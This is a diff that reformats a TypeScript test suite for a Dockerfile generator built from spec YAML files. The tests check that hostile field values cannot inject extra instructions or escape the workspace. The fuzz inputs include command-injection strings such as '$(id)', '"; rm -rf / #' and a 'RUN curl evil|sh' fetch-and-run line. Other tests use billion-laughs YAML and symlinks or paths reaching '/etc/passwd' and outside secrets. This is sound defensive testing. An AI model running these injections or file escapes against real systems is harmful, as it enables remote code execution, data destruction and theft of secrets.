@@ -38,7 +38,12 @@ function run(ws: string, specRel = 'spec.yaml'): Outcome {
   const plan = planImages([file], { cwd: ws, hostMachine: 'x86_64', digests: fsDigests(ws, ws) });
   if (plan.errors.length) return { error: plan.errors[0] };
   try {
-    const ctx = prepareContext(plan.images[0], undefined, { cwd: ws, repoRoot: ws, defaultPythonVersion: '3.12', flytekitVersion: '1.16.24' });
+    const ctx = prepareContext(plan.images[0], undefined, {
+      cwd: ws,
+      repoRoot: ws,
+      defaultPythonVersion: '3.12',
+      flytekitVersion: '1.16.24',
+    });
     return { dockerfile: ctx.dockerfile, contextFiles: ctx.files.map((f) => f.src ?? f.dest) };
   } catch (e) {
     if (e instanceof SpecError) return { error: e };
@@ -59,7 +64,22 @@ const nasty: fc.Arbitrary<string> = fc
   .array(
     fc.oneof(
       fc.constantFrom(...'\n\r\0\t $`\'"\\;&|<>()#*?[]{}~!=:/.,@+%^-'.split('')),
-      fc.constantFrom('$(id)', '`id`', '${HOME}', '&&', '\nRUN curl evil|sh', '\nUSER root', '\\\n', '\r\nFROM scratch', ' #', '--', '"; rm -rf / #', "'; id; '", '\u2028', '\x85'),
+      fc.constantFrom(
+        '$(id)',
+        '`id`',
+        '${HOME}',
+        '&&',
+        '\nRUN curl evil|sh',
+        '\nUSER root',
+        '\\\n',
+        '\r\nFROM scratch',
+        ' #',
+        '--',
+        '"; rm -rf / #',
+        "'; id; '",
+        '\u2028',
+        '\x85',
+      ),
       fc.constantFrom('numpy', 'debian', 'https://x.io/a', '/usr/bin/python3', 'conda-forge', 'A', 'src'),
       fc.string({ unit: 'binary', maxLength: 3 }),
     ),
@@ -100,7 +120,18 @@ describe('hostile field values in a spec file', () => {
   const ws = workspace({ 'src/app.py': 'x', 'a.txt': 'a', 'plain.yaml': 'name: spec\n' });
   afterAll(() => fs.rmSync(ws, { recursive: true, force: true }));
   const baseline = new Map<string, string[]>();
-  const harmless: Record<string, string> = { python_version: '3.11', pip_index: 'https://x.io/simple', pip_extra_index_url: 'https://x.io/s', base_image: 'debian:bookworm-slim', copy: 'a.txt', registry: 'ghcr.io/x', tag_format: '{spec_hash}', platform: 'linux/amd64', builder_config: 'ghcr.io/astral-sh/uv:0.5.1', python_exec: '/usr/bin/python3' };
+  const harmless: Record<string, string> = {
+    python_version: '3.11',
+    pip_index: 'https://x.io/simple',
+    pip_extra_index_url: 'https://x.io/s',
+    base_image: 'debian:bookworm-slim',
+    copy: 'a.txt',
+    registry: 'ghcr.io/x',
+    tag_format: '{spec_hash}',
+    platform: 'linux/amd64',
+    builder_config: 'ghcr.io/astral-sh/uv:0.5.1',
+    python_exec: '/usr/bin/python3',
+  };
 
   test.each(Object.keys(FIELD_TEMPLATES))('%s: refused with file, field and line, or rendered with no extra instruction', (field) => {
     const tpl = FIELD_TEMPLATES[field];
@@ -123,7 +154,8 @@ describe('hostile field values in a spec file', () => {
         const k = keywordsOf(o.dockerfile);
         if (field === 'commands' && v.trim() === '') expect(k.length).toBe(baseline.get(field)!.length - 1);
         // An empty python_exec is unset (falsy), which selects the micromamba layout instead.
-        else if (field === 'python_exec' && v === '') expect(k).toEqual(keywordsOf((run(ws, 'plain.yaml') as { dockerfile: string }).dockerfile));
+        else if (field === 'python_exec' && v === '')
+          expect(k).toEqual(keywordsOf((run(ws, 'plain.yaml') as { dockerfile: string }).dockerfile));
         else expect(k).toEqual(baseline.get(field));
         expect(o.dockerfile).not.toContain('\0');
         expect(o.dockerfile).not.toMatch(/^RUN curl evil|^USER root\b(?![\s\S]*USER flytekit)|^FROM scratch/m);
@@ -150,9 +182,33 @@ describe('resource attacks end fast with a named error', () => {
   test.each([
     ['a file over 1 MiB', 'name: x\nenv:\n' + '  K: "' + 'x'.repeat(1100 * 1024) + '"\n', /larger than|limit/],
     ['flow nesting 100,000 deep', 'name: x\nenv: ' + '['.repeat(100_000) + ']'.repeat(100_000) + '\n', /nested more than 64/],
-    ['block nesting 200 deep', 'name: x\nbuilder_options:\n' + Array.from({ length: 200 }, (_, i) => ' '.repeat(2 * (i + 1)) + `k${i}:\n`).join('') + ' '.repeat(402) + 'v\n', /nested more than 64/],
-    ['billion laughs', 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + 'bcdefghi'.split('').map((c, i) => `${c}: &${c} [${Array(9).fill('*' + 'abcdefghi'[i]).join(',')}]\n`).join(''), /alias/i],
-    ['aliases of a long string', 'x: &s "' + 'y'.repeat(100_000) + '"\nenv: {' + Array.from({ length: 200 }, (_, i) => `k${i}: *s`).join(', ') + '}\n', /alias/i],
+    [
+      'block nesting 200 deep',
+      'name: x\nbuilder_options:\n' +
+        Array.from({ length: 200 }, (_, i) => ' '.repeat(2 * (i + 1)) + `k${i}:\n`).join('') +
+        ' '.repeat(402) +
+        'v\n',
+      /nested more than 64/,
+    ],
+    [
+      'billion laughs',
+      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' +
+        'bcdefghi'
+          .split('')
+          .map(
+            (c, i) =>
+              `${c}: &${c} [${Array(9)
+                .fill('*' + 'abcdefghi'[i])
+                .join(',')}]\n`,
+          )
+          .join(''),
+      /alias/i,
+    ],
+    [
+      'aliases of a long string',
+      'x: &s "' + 'y'.repeat(100_000) + '"\nenv: {' + Array.from({ length: 200 }, (_, i) => `k${i}: *s`).join(', ') + '}\n',
+      /alias/i,
+    ],
     ['a NUL byte', 'name: "x"\nenv: {A: "a\0b"}\n', /unacceptable character|NUL|#x0000/],
     ['invalid UTF-8', Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x3a, 0x20, 0xff, 0x0a]), /UTF-8/],
   ])('%s', (_n, yaml, message) => {
@@ -195,25 +251,70 @@ describe('the file system is never left', () => {
   test.each([
     ['source_root: ..', () => undefined, 'name: x\nsource_root: ..\nsource_copy_mode: ALL\n', /source_root/],
     ['source_root: an absolute path outside', () => undefined, 'name: x\nsource_root: /etc\nsource_copy_mode: ALL\n', /source_root/],
-    ['source_root: a link to a directory outside', (ws: string) => fs.symlinkSync(outside, path.join(ws, 'out')), 'name: x\nsource_root: out\nsource_copy_mode: ALL\n', /source_root/],
-    ['a link inside source_root to a file outside', (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'src', 'leak.txt')), 'name: x\nsource_root: src\nsource_copy_mode: ALL\n', /source_root/],
+    [
+      'source_root: a link to a directory outside',
+      (ws: string) => fs.symlinkSync(outside, path.join(ws, 'out')),
+      'name: x\nsource_root: out\nsource_copy_mode: ALL\n',
+      /source_root/,
+    ],
+    [
+      'a link inside source_root to a file outside',
+      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'src', 'leak.txt')),
+      'name: x\nsource_root: src\nsource_copy_mode: ALL\n',
+      /source_root/,
+    ],
     ['copy: ../', () => undefined, 'name: x\ncopy: ["../"]\n', /copy/],
     ['copy: a path through ..', () => undefined, 'name: x\ncopy: ["src/../../x"]\n', /copy/],
     ['copy: an absolute path', () => undefined, 'name: x\ncopy: ["/etc/passwd"]\n', /copy/],
-    ['copy: a link to a file outside', (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'leak.txt')), 'name: x\ncopy: [leak.txt]\n', /copy/],
-    ['copy: a directory holding a link outside', (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'src', 'leak.txt')), 'name: x\ncopy: [src]\n', /copy/],
-    ['requirements: a link to a file outside', (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'r.txt')), 'name: x\nrequirements: r.txt\n', /requirements/],
-    ['requirements: a path out through ..', (ws: string) => fs.writeFileSync(path.join(ws, '..', `${path.basename(ws)}-req.txt`), 'x'), 'name: x\nrequirements: ../REQ\n', /requirements/],
-    ['requirements: a FIFO (flytekit would block reading it)', (ws: string) => execFileSync('mkfifo', [path.join(ws, 'pipe')]), 'name: x\nrequirements: pipe\n', /requirements/],
+    [
+      'copy: a link to a file outside',
+      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'leak.txt')),
+      'name: x\ncopy: [leak.txt]\n',
+      /copy/,
+    ],
+    [
+      'copy: a directory holding a link outside',
+      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'src', 'leak.txt')),
+      'name: x\ncopy: [src]\n',
+      /copy/,
+    ],
+    [
+      'requirements: a link to a file outside',
+      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'r.txt')),
+      'name: x\nrequirements: r.txt\n',
+      /requirements/,
+    ],
+    [
+      'requirements: a path out through ..',
+      (ws: string) => fs.writeFileSync(path.join(ws, '..', `${path.basename(ws)}-req.txt`), 'x'),
+      'name: x\nrequirements: ../REQ\n',
+      /requirements/,
+    ],
+    [
+      'requirements: a FIFO (flytekit would block reading it)',
+      (ws: string) => execFileSync('mkfifo', [path.join(ws, 'pipe')]),
+      'name: x\nrequirements: pipe\n',
+      /requirements/,
+    ],
     ['copy: a FIFO', (ws: string) => execFileSync('mkfifo', [path.join(ws, 'pipe')]), 'name: x\ncopy: [pipe]\n', /copy/],
-    ['requirements: uv.lock beside a pyproject.toml linking outside', (ws: string) => {
-      fs.writeFileSync(path.join(ws, 'uv.lock'), 'version = 1\n');
-      fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'pyproject.toml'));
-    }, 'name: x\nrequirements: uv.lock\n', /requirements/],
-    ['requirements: poetry.lock beside a pyproject.toml that is a FIFO', (ws: string) => {
-      fs.writeFileSync(path.join(ws, 'poetry.lock'), '# lock\n');
-      execFileSync('mkfifo', [path.join(ws, 'pyproject.toml')]);
-    }, 'name: x\nrequirements: poetry.lock\n', /requirements/],
+    [
+      'requirements: uv.lock beside a pyproject.toml linking outside',
+      (ws: string) => {
+        fs.writeFileSync(path.join(ws, 'uv.lock'), 'version = 1\n');
+        fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'pyproject.toml'));
+      },
+      'name: x\nrequirements: uv.lock\n',
+      /requirements/,
+    ],
+    [
+      'requirements: poetry.lock beside a pyproject.toml that is a FIFO',
+      (ws: string) => {
+        fs.writeFileSync(path.join(ws, 'poetry.lock'), '# lock\n');
+        execFileSync('mkfifo', [path.join(ws, 'pyproject.toml')]);
+      },
+      'name: x\nrequirements: poetry.lock\n',
+      /requirements/,
+    ],
   ])('%s is refused, naming the field', (_n, setup, yaml, field) => {
     const o = wsWith(setup, yaml);
     const e = expectNamedError(o, field);
